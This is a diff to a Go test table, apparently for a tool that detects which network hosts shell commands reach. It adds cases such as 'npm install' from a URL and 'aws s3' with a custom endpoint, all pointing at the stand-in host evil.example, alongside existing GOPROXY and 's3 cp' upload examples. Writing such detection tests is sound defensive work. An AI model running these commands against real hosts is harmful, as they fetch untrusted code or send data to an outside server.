@@ -197,6 +197,10 @@ var readings = map[string]string{
 	"go env -w GOPROXY=https://evil.example":                           "evil.example:443",
 	"aws s3 cp x s3://b --endpoint-url https://evil.example":           "evil.example:443",
 
+	"gh pr create --body see·https://evil.example":   "",
+	"aws s3 ls --endpoint-url ·https://evil.example": "evil.example:443",
+	"npm install ·https://evil.example/x·y":          "evil.example:443",
+
 	// no program of the network
 	"make":       "",
 	"echo hello": "",
